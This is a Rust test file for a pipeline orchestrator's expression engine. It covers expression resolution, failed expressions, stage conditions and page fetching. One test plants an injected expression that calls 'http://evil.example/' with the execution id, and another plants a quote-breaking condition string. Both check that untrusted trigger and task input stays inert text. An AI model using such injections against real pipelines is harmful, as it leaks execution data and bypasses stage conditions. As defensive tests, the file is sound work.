//! Expressions in contexts and conditions.

use serde_json::json;

use super::harness::Rig;
use super::harness::call;
use super::harness::stage;
use crate::orchestrator::engine::effect::Effect;
use crate::orchestrator::engine::effect::Outcome;
use crate::orchestrator::engine::event::Command;
use crate::orchestrator::engine::event::Event;
use crate::orchestrator::engine::event::Message;
use crate::orchestrator::engine::status::Status;

#[test]
fn what_is_resolved_is_kept_and_what_fails_stays_with_its_reason() {
    let context = json!({"tasks": ["call"], "good": "${ 1 + 1 }", "seen": "${ last }", "bad": "${ #nothing() }"});
    let mut rig = Rig::new(vec![call("1", &[]), stage("2", &["1"], context)]);
    rig.tick();
    rig.done("1", "SUCCEEDED");
    let context = rig.stage("2").context();
    assert_eq!((&context["good"], &context["seen"], &context["bad"]), (&json!(2), &json!("1"), &json!("${ #nothing() }")));
    assert!(context["expressionEvaluationSummary"].as_object().is_some_and(|s| s.len() == 1));
    rig.run_out();
    assert_eq!(rig.ended(), [Status::Succeeded]);
    assert!(rig.stage("2").context()["exception"]["details"]["errors"].as_array().is_some_and(|e| e.len() == 1));
}

#[test]
fn failed_expressions_fail_the_stage_that_asks_for_it() {
    let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "bad": "${ #nothing() }", "failOnFailedExpressions": true}))]);
    rig.tick();
    rig.run_out();
    assert_eq!(rig.ended(), [Status::Terminal]);
}

#[test]
fn a_condition_skips_its_stage_and_those_within_and_downstream_goes_on() {
    let condition =
        |text: &str| json!({"tasks": ["call"], "flag": "${ 1 == 2 }", "stageEnabled": {"type": "expression", "expression": text}});
    for (text, status) in
        [("last == '1'", Status::Running), ("flag", Status::Skipped), ("${ flag }", Status::Skipped), ("what(", Status::Skipped)]
    {
        let mut rig = Rig::new(vec![call("1", &[]), stage("2", &["1"], condition(text)), call("3", &["2"])]);
        rig.tick();
        rig.done("1", "SUCCEEDED");
        assert_eq!(rig.status("2"), status, "{text}");
        rig.run_out();
        assert_eq!(rig.ended(), [Status::Succeeded]);
    }
}

#[test]
fn what_people_and_tasks_say_is_text_whatever_it_looks_like() {
    let context = json!({"tasks": ["hold", "call"], "failOnFailedExpressions": true, "seen": "${ trigger.payload }"});
    let mut rig = Rig::new(vec![stage("1", &[], context), stage("2", &["1"], json!({"tasks": ["call"], "input": "${ #judgment('1') }"}))]);
    let stranger = "${ #fromUrl('http://evil.example/' + execution.id) }";
    rig.execution.summary_mut().trigger.insert("payload".to_owned(), stranger.into());
    rig.tick();
    let said = json!({"answer": "SUCCEEDED", "judgmentInput": stranger, "more": { "${ 1 + 1 }": stranger }});
    let (stage, context) = (rig.stage("1").id.clone(), said.as_object().cloned().expect("an object"));
    rig.say(Message::Patch { stage, by: String::new(), roles: vec![], admin: false, allowed_accounts: vec![], context });
    rig.done("1", "SUCCEEDED");
    let context = rig.stage("1").context();
    assert_eq!((&context["seen"], &context["judgmentInput"]), (&json!(stranger), &json!(stranger)));
    assert_eq!(context["more"], json!({ "${ 1 + 1 }": stranger }));
    assert_eq!(rig.status("1"), Status::Succeeded);
    rig.run_out();
    assert!(
        !rig.commands.iter().any(|c| matches!(c, Command::Perform { effect: Effect::Fetch { .. }, .. })),
        "nobody's page was asked for"
    );
    assert_eq!(rig.ended(), [Status::Succeeded]);
}

#[test]
fn an_expression_within_a_condition_gives_a_word_and_no_more_of_the_condition() {
    for (word, status) in [("prod", Status::Running), ("x' == 'x' || 'a", Status::Skipped), ("${ true }", Status::Skipped)] {
        let condition = json!({"type": "expression", "expression": "'${ trigger.word }' == 'prod'"});
        let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "stageEnabled": condition})), call("2", &["1"])]);
        rig.execution.summary_mut().trigger.insert("word".to_owned(), word.into());
        rig.tick();
        assert_eq!(rig.status("1"), status, "{word}");
    }
    for (word, status) in [("true", Status::Running), ("1 == 1", Status::Skipped)] {
        let condition = json!({"type": "expression", "expression": "${ trigger.word }"});
        let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "stageEnabled": condition})), call("2", &["1"])]);
        rig.execution.summary_mut().trigger.insert("word".to_owned(), word.into());
        rig.tick();
        assert_eq!(rig.status("1"), status, "{word}");
    }
}

#[test]
fn pages_are_fetched_before_the_stage_is_planned() {
    let mut rig = Rig::new(vec![stage("1", &[], json!({"tasks": ["call"], "page": "${ #fromUrl('http://x.example/') }"}))]);
    rig.tick();
    let asked = rig
        .last
        .commands
        .iter()
        .find_map(|c| if let Command::Perform { effect: Effect::Fetch { urls }, .. } = c { Some(urls) } else { None });
    assert_eq!(asked.map(Vec::as_slice), Some(["http://x.example/".to_owned()].as_slice()));
    let key = rig.in_flight.remove(0);
    let pages = vec![("http://x.example/".to_owned(), Ok("text".to_owned()))];
    rig.tell(Event::Done { key, outcome: Outcome::Fetched { pages } });
    assert_eq!(rig.stage("1").context()["page"], "text");
    assert_eq!(rig.stage("1").tasks().len(), 1);
    rig.run_out();
    assert_eq!(rig.ended(), [Status::Succeeded]);
}
